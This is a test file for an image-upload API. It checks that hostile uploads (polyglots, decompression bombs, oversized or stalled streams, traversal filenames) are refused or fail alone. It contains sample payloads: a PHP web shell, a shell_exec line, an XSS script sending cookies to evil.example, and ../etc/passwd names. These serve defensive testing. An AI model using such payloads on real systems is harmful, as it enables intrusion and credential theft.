/**
 * Issue #4 §5 and the bomb criterion: hostile uploads. Each one is refused per file with its own
 * code, or fails alone in the worker, while the files around it go through.
 */
import { decodeGlobalID } from '@pothos/plugin-relay';
import { randomUUID } from 'node:crypto';
import http from 'node:http';
import net from 'node:net';
import { print } from 'graphql';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { insertBatch } from '../src/db/batches.ts';
import { insertUploads } from '../src/db/uploads.ts';
import { enqueueProcessBatch } from '../src/jobs/contract.ts';
import { BatchProgress, CreateBatch } from './documents.ts';
import { UploadFileUrls, UploadsOfBatch } from './documents-security.ts';
import { startTestApp, type TestApp } from './helpers/app.ts';
import { client } from './helpers/client.ts';
import * as hostile from './helpers/hostile.ts';
import { BOUNDARY, filesUnder, multipartBody, multipartHeaders, type RawPart, uploadParts } from './helpers/http.ts';
import * as images from './helpers/images.ts';
import { memoryOf, spawnService } from './helpers/process.ts';

const MiB = 1024 * 1024;
const CREATE = print(CreateBatch);

let app: TestApp;
let api: ReturnType<typeof client>;
let token: string;
beforeAll(async () => {
  app = await startTestApp({
    env: {
      MAX_FILE_BYTES: String(4 * MiB),
      MAX_BATCH_BYTES: String(64 * MiB),
      MAX_FILES_PER_BATCH: '20',
      MAX_ANIMATION_FRAMES: '50',
      UPLOAD_IDLE_TIMEOUT_SECONDS: '1',
    },
  });
  api = client(app);
  ({ token } = await api.signUp());
});
afterAll(() => app?.close());

type Created = Extract<NonNullable<Awaited<ReturnType<typeof api.upload>>['data']>['createBatch'], { __typename: 'CreateBatchSuccess' }>;
async function uploadOk(files: { name: string; data: Buffer | Uint8Array }[]): Promise<Created> {
  const r = await api.upload(token, files);
  const result = r.data?.createBatch;
  if (result?.__typename !== 'CreateBatchSuccess') throw new Error(JSON.stringify(r));
  return result;
}
const codes = (c: Created) => Object.fromEntries(c.rejectedFiles.map((f) => [f.filename, f.code]));
async function processed(batchId: string) {
  await api.subscribeWs(BatchProgress, { batchId }, token).done;
  return (await api.request(UploadsOfBatch, { id: batchId }, token)).data!.batch!.uploads.edges.map((e) => e.node);
}
/**
 * Storage holds originals and renditions of accepted uploads only, under server-made names
 * (the worker may be writing one of an earlier test's renditions: `<key>.<uuid>.tmp` until renamed).
 */
async function expectOnlyServerMadeFiles() {
  const files = await filesUnder(app.storageDir);
  expect(files.filter((f) => f.startsWith('incoming/'))).toEqual([]);
  // The worker may be making renditions meanwhile: scratch/ files, named by it alone.
  for (const f of files) expect(f).toMatch(/^([a-z]+\/[0-9a-f-]{36}\/[0-9a-f-]{36}(\.[a-z0-9]+)?(\.[0-9a-f-]{36}\.tmp)?|scratch\/[0-9a-f-]{36})$/);
}

describe('hostile files in one batch', () => {
  it('each is refused with its own code or fails alone; the good files around them complete', async () => {
    const created = await uploadOk([
      { name: 'first.png', data: await images.png({ color: 'red' }) },
      { name: 'shell.png', data: Buffer.from('<?php system($_GET["cmd"]); ?>') },
      { name: 'page.jpg', data: Buffer.from('<!doctype html><html><script>alert(1)</script></html>') },
      { name: 'logo.svg.png', data: hostile.svgWithScript() },
      { name: 'empty.jpg', data: Buffer.alloc(0) },
      { name: 'script-in-text-chunk.png', data: await hostile.pngWithText('<script>fetch("https://evil.example/?c="+document.cookie)</script>') },
      { name: 'php-in-comment.jpg', data: await hostile.jpegWithComment('<?php echo shell_exec($_GET["c"]); ?>') },
      { name: 'pdf-in-comment.jpg', data: await hostile.jpegWithComment('%PDF-1.7 1 0 obj << /OpenAction >>') },
      { name: 'jar.jpg', data: Buffer.concat([await images.jpeg(), hostile.zipOf('Payload.class', 'cafebabe')]) },
      { name: 'corrupt.jpg', data: hostile.corruptJpeg() },
      { name: 'bomb.png', data: hostile.bombPng() },
      { name: 'long-animation.gif', data: await hostile.animatedGif(60) },
      { name: 'truncated.png', data: await images.truncatedPng() },
      { name: 'last.jpg', data: await images.jpeg({ color: 'blue' }) },
    ]);
    expect(codes(created)).toEqual({
      'shell.png': 'UNSUPPORTED_TYPE',
      'page.jpg': 'UNSUPPORTED_TYPE',
      'logo.svg.png': 'UNSUPPORTED_TYPE',
      'empty.jpg': 'EMPTY_FILE',
      'script-in-text-chunk.png': 'POLYGLOT',
      'php-in-comment.jpg': 'POLYGLOT',
      'pdf-in-comment.jpg': 'POLYGLOT',
      'jar.jpg': 'POLYGLOT',
      'corrupt.jpg': 'CORRUPT_IMAGE',
      'bomb.png': 'PIXEL_LIMIT_EXCEEDED',
      'long-animation.gif': 'ANIMATION_TOO_LONG',
    });
    const messages = Object.fromEntries(created.rejectedFiles.map((f) => [f.filename, f.message]));
    expect(messages['logo.svg.png']).toMatch(/svg/i);
    expect(messages['bomb.png']).toMatch(/30000×30000/);
    expect(messages['jar.jpg']).toMatch(/ZIP/);

    // A truncated image passes the header checks; decoding fails in the worker, for that file alone.
    const uploads = await processed(created.batch.id);
    expect(uploads.map((u) => [u.filename, u.status])).toEqual([
      ['first.png', 'COMPLETED'],
      ['truncated.png', 'FAILED'],
      ['last.jpg', 'COMPLETED'],
    ]);
    expect(uploads[1]!.errorMessage).toMatch(/decode/i);
    await expectOnlyServerMadeFiles();
  });

  it('a photo with EXIF and XMP (camera, GPS) is not mistaken for a polyglot; its renditions carry neither', async () => {
    const created = await uploadOk([{ name: 'holiday.jpg', data: await hostile.jpegWithGps() }]);
    expect(created.rejectedFiles).toEqual([]);
    const [upload] = await processed(created.batch.id);
    expect(upload!.status).toBe('COMPLETED');
    const urls = (await api.request(UploadFileUrls, { id: upload!.id }, token)).data!.upload!;
    for (const url of [urls.thumbnailUrl!, urls.previewUrl!]) {
      const bytes = Buffer.from(await (await fetch(url)).arrayBuffer());
      const meta = await sharp(bytes).metadata();
      expect(meta.exif).toBeUndefined();
      expect(meta.xmp).toBeUndefined();
      expect(bytes.includes('SpyCam')).toBe(false);
      expect(bytes.includes('GPS')).toBe(false);
      expect(bytes.includes('xmpmeta')).toBe(false);
    }
  });
});

describe('decompression bomb (30000×30000 PNG of one colour)', () => {
  it('is refused from its header at upload, without decoding a pixel', async () => {
    const bomb = hostile.bombPng();
    expect(bomb.length).toBeLessThan(500 * 1024);
    global.gc?.();
    const baseline = process.memoryUsage().rss;
    let peak = baseline;
    const sampler = setInterval(() => (peak = Math.max(peak, process.memoryUsage().rss)), 5);
    const started = performance.now();
    const r = await api.upload(token, [{ name: 'bomb.png', data: bomb }]);
    const ms = performance.now() - started;
    clearInterval(sampler);
    peak = Math.max(peak, process.memoryUsage().rss);
    console.log(`bomb refused in ${ms.toFixed(0)} ms; RSS growth ${((peak - baseline) / MiB).toFixed(1)} MB (API and worker in one process)`);
    expect(r.data!.createBatch).toMatchObject({ __typename: 'NoAcceptableFilesError', rejectedFiles: [{ code: 'PIXEL_LIMIT_EXCEEDED' }] });
    expect((peak - baseline) / MiB).toBeLessThan(100);
  });

  it('is refused by a separate worker process too if one reaches storage, its memory staying flat', async () => {
    // The worker never trusts the API's check: plant a bomb behind it and let a worker process run it.
    const api2 = await startTestApp({ mode: 'api' });
    const worker = spawnService('worker', { ...api2.env, LOG_LEVEL: 'info' });
    try {
      await worker.waitFor(/worker started/);
      const idle = await memoryOf(worker.child.pid!);
      const { db, storage } = api2.ctx;
      const user = await db.insertInto('users').values({ email: `bomb-${randomUUID()}@example.com`, passwordHash: 'x' }).returning('id').executeTakeFirstOrThrow();
      const id = randomUUID();
      const originalKey = `originals/${user.id}/${id}.png`;
      await storage.put(originalKey, hostile.bombPng());
      const batch = await db.transaction().execute(async (trx) => {
        const b = await insertBatch(trx, { userId: user.id, totalUploads: 1 });
        await insertUploads(trx, [{ id, batchId: b.id, userId: user.id, position: 0, filename: 'bomb.png', mimeType: 'image/png', byteSize: 109_445, originalKey }]);
        await enqueueProcessBatch(trx, { batchId: b.id });
        return b;
      });
      let row;
      for (let i = 0; i < 600 && row?.status !== 'FAILED'; i++) {
        await new Promise((r) => setTimeout(r, 50));
        row = await db.selectFrom('uploads').select(['status', 'errorMessage']).where('id', '=', id).executeTakeFirst();
      }
      const after = await memoryOf(worker.child.pid!);
      console.log(`worker peak RSS ${(idle.peak / MiB).toFixed(0)} MB idle → ${(after.peak / MiB).toFixed(0)} MB after the bomb`);
      expect(row).toMatchObject({ status: 'FAILED', errorMessage: expect.stringMatching(/too large|pixel/i) });
      expect((after.peak - idle.peak) / MiB).toBeLessThan(100);
      expect(batch.id).toBeTruthy();
    } finally {
      await worker.stop();
      await api2.close();
    }
  });
});

/** A raw streaming POST: `parts` first, then `fill` bytes of a file part that may never end. */
function rawUpload(
  parts: RawPart[],
  tail: { name: string; filename: string; bytes: number; chunk?: number; stallAfter?: number },
  as: string | null = token,
) {
  const head = multipartBody(parts).subarray(0, -Buffer.byteLength(`--${BOUNDARY}--\r\n`));
  const req = http.request(`${app.graphqlUrl}`, { method: 'POST', headers: multipartHeaders(as ?? undefined) });
  let sent = 0;
  let socketClosed = false;
  req.on('socket', (s) => s.once('close', () => (socketClosed = true)));
  const response = new Promise<{ status: number; body: any }>((resolve, reject) => {
    req.on('response', (res) => {
      let text = '';
      res.on('data', (d) => (text += d));
      res.on('end', () => resolve({ status: res.statusCode!, body: text ? JSON.parse(text) : null }));
      res.on('error', reject);
    });
    req.on('error', reject);
  });
  response.catch(() => {});
  (async () => {
    req.write(head);
    req.write(`--${BOUNDARY}\r\nContent-Disposition: form-data; name="${tail.name}"; filename="${tail.filename}"\r\nContent-Type: image/png\r\n\r\n`);
    req.write(await images.png());
    const chunk = Buffer.alloc(tail.chunk ?? 64 * 1024);
    while (sent < tail.bytes && !req.destroyed && !socketClosed) {
      if (tail.stallAfter !== undefined && sent >= tail.stallAfter) return; // never another byte
      if (!req.write(chunk)) await new Promise((r) => req.once('drain', r).once('close', r));
      sent += chunk.length;
    }
    if (!req.destroyed && !socketClosed) req.end(`\r\n--${BOUNDARY}--\r\n`);
  })().catch(() => {});
  return { response, sent: () => sent, socketClosed: () => socketClosed, req };
}

describe('size limits while streaming', () => {
  it('a file just over the limit is refused and the next file still arrives', async () => {
    const over = Buffer.concat([await images.png(), Buffer.alloc(4 * MiB)]);
    const created = await uploadOk([
      { name: 'over.png', data: over },
      { name: 'after.png', data: await images.png({ width: 62 }) },
    ]);
    expect(codes(created)).toEqual({ 'over.png': 'FILE_TOO_LARGE' });
    expect(created.batch.totalUploads).toBe(1);
  });

  it('an endless file is cut off: the files before it are kept, reading stops, the connection closes', async () => {
    const parts = [...uploadParts(CREATE, 3), { name: '0', filename: 'kept.png', contentType: 'image/png', data: await images.png({ width: 61 }) }];
    const upload = rawUpload(parts, { name: '1', filename: 'endless.png', bytes: 1024 * MiB });
    const { status, body } = await upload.response;
    expect(status).toBe(200);
    const result = body.data.createBatch;
    expect(result.batch.totalUploads).toBe(1);
    expect(Object.fromEntries(result.rejectedFiles.map((f: any) => [f.filename, f.code]))).toEqual({ 'endless.png': 'FILE_TOO_LARGE', unnamed: 'UPLOAD_INCOMPLETE' });
    for (let i = 0; i < 250 && !upload.socketClosed(); i++) await new Promise((r) => setTimeout(r, 20));
    expect(upload.socketClosed()).toBe(true);
    // 4 MiB file limit + 4 MiB skipped; kernel buffers account for the rest.
    expect(upload.sent()).toBeLessThan(64 * MiB);
    await expectOnlyServerMadeFiles();
  });

  it('a declared Content-Length over the request limit → 413 before a byte is read', async () => {
    const status = await new Promise<number>((resolve, reject) => {
      const req = http.request(app.graphqlUrl, { method: 'POST', headers: { ...multipartHeaders(token), 'content-length': String(100 * 1024 * MiB) } });
      req.on('response', (res) => resolve(res.statusCode!));
      req.on('error', reject);
      req.write(multipartBody(uploadParts(CREATE, 1)));
    });
    expect(status).toBe(413);
  });

  it('files beyond MAX_FILES_PER_BATCH → TOO_MANY_FILES each, the first 20 accepted', async () => {
    const created = await uploadOk(await Promise.all(Array.from({ length: 22 }, async (_, i) => ({ name: `${i}.png`, data: await images.png({ width: 100 + i }) }))));
    expect(created.batch.totalUploads).toBe(20);
    expect(created.rejectedFiles.map((f) => f.code)).toEqual(['TOO_MANY_FILES', 'TOO_MANY_FILES']);
  });
});

describe('who may stream, and how many at once', () => {
  it('an upload without a valid token → 401 before its body is read, connection closed, nothing stored', async () => {
    for (const as of [null, 'drk_forged-token']) {
      const upload = rawUpload(uploadParts(CREATE, 1), { name: '0', filename: 'anon.png', bytes: 1024 * MiB }, as);
      const { status, body } = await upload.response;
      expect(status).toBe(401);
      expect(body.errors[0].extensions.code).toBe('UNAUTHENTICATED');
      for (let i = 0; i < 250 && !upload.socketClosed(); i++) await new Promise((r) => setTimeout(r, 20));
      expect(upload.socketClosed()).toBe(true);
      expect(upload.sent()).toBeLessThan(64 * MiB);
    }
    await expectOnlyServerMadeFiles();
  });

  it('a fifth concurrent upload from one user → 429 TOO_MANY_UPLOADS; other users are unaffected', async () => {
    const stalled = Array.from({ length: 4 }, () => rawUpload(uploadParts(CREATE, 1), { name: '0', filename: 'slow.png', bytes: 1024 * MiB, stallAfter: 320 * 1024 }));
    // All four are counted once each has a temp file in incoming/ (created once a file outgrows
    // the 256 KiB the receiver holds in memory).
    const incoming = async () => (await filesUnder(app.storageDir)).filter((f) => f.startsWith('incoming/')).length;
    for (let i = 0; i < 200 && (await incoming()) < 4; i++) await new Promise((r) => setTimeout(r, 20));
    expect(await incoming()).toBe(4);
    const fifth = await api.upload(token, [{ name: 'fifth.png', data: await images.png({ width: 63 }) }]);
    expect(fifth.status).toBe(429);
    expect(fifth.errors![0]!.extensions!.code).toBe('TOO_MANY_UPLOADS');
    const other = await api.signUp();
    const theirs = await api.upload(other.token, [{ name: 'theirs.png', data: await images.png({ width: 64 }) }]);
    expect(theirs.data!.createBatch.__typename).toBe('CreateBatchSuccess');
    // The stalled ones time out and free their slots.
    for (const s of stalled) expect((await s.response).status).toBe(408);
    const later = await api.upload(token, [{ name: 'later.png', data: await images.png({ width: 65 }) }]);
    expect(later.data!.createBatch.__typename).toBe('CreateBatchSuccess');
  });
});

describe('slow uploads', () => {
  it('an upload that stops sending is answered 408 UPLOAD_TIMEOUT and its connection closed', async () => {
    const parts = [...uploadParts(CREATE, 1)];
    const upload = rawUpload(parts, { name: '0', filename: 'stalled.png', bytes: 1024 * MiB, stallAfter: 256 * 1024 });
    const { status, body } = await upload.response;
    expect(status).toBe(408);
    expect(body.errors[0].extensions.code).toBe('UPLOAD_TIMEOUT');
    for (let i = 0; i < 250 && !upload.socketClosed(); i++) await new Promise((r) => setTimeout(r, 20));
    expect(upload.socketClosed()).toBe(true);
    await expectOnlyServerMadeFiles();
  });
});

describe('slow request bodies', () => {
  it('a JSON body that never finishes arriving gets its connection closed', async () => {
    const socket = net.connect(Number(new URL(app.url).port), '127.0.0.1');
    const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
    socket.on('error', () => {});
    socket.write(`POST /graphql HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{"query":`);
    await closed; // the idle timeout (1 s here) ends it; without it this would hang until the test times out
  });
});

describe('filenames', () => {
  it('long, control-character and path-traversal names are displayed sanitized and never used as paths', async () => {
    const names = [
      '../../../../etc/passwd.png',
      '..\\..\\windows\\win.ini.png',
      'bell\x07escape\x1b[31mnull\x00del\x7f.png',
      `${'a'.repeat(5000)}.png`,
      'invoice\u202egnp.exe',
      '/absolute/path.png',
    ];
    // Distinct pixels per file: identical content would be reported as duplicates instead.
    const pngs = await Promise.all(names.map((_, i) => images.png({ width: 20 + i })));
    const parts: RawPart[] = [
      ...uploadParts(CREATE, names.length),
      // Control characters may not appear raw in a header (busboy refuses the request); clients send them encoded.
      ...names.map((n, i) => ({ name: String(i), filenameUtf8: n, contentType: 'image/png', data: pngs[i]! })),
    ];
    const res = await fetch(app.graphqlUrl, { method: 'POST', headers: multipartHeaders(token), body: multipartBody(parts) });
    const result = ((await res.json()) as any).data.createBatch;
    expect(result.__typename).toBe('CreateBatchSuccess');
    const uploads = (await api.request(UploadsOfBatch, { id: result.batch.id }, token)).data!.batch!.uploads.edges.map((e) => e.node.filename);
    expect(uploads).toEqual([
      'passwd.png',
      'win.ini.png',
      'bellescape[31mnulldel.png',
      `${'a'.repeat(251)}.png`,
      'invoicegnp.exe',
      'path.png',
    ]);
    await expectOnlyServerMadeFiles();
    const keys = await app.ctx.db.selectFrom('uploads').select('originalKey').where('batchId', '=', decodeGlobalID(result.batch.id).id).execute();
    for (const { originalKey } of keys) expect(originalKey).toMatch(/^originals\/[0-9a-f-]{36}\/[0-9a-f-]{36}\.png$/);
  });

  it('a raw control character in a part header makes the request malformed: 400, nothing stored', async () => {
    const parts: RawPart[] = [...uploadParts(CREATE, 1), { name: '0', filename: 'bell\x07.png', contentType: 'image/png', data: await images.png({ width: 19 }) }];
    const res = await fetch(app.graphqlUrl, { method: 'POST', headers: multipartHeaders(token), body: multipartBody(parts) });
    expect(res.status).toBe(400);
    expect(((await res.json()) as any).errors[0].extensions.code).toBe('BAD_MULTIPART_REQUEST');
    await expectOnlyServerMadeFiles();
  });
});
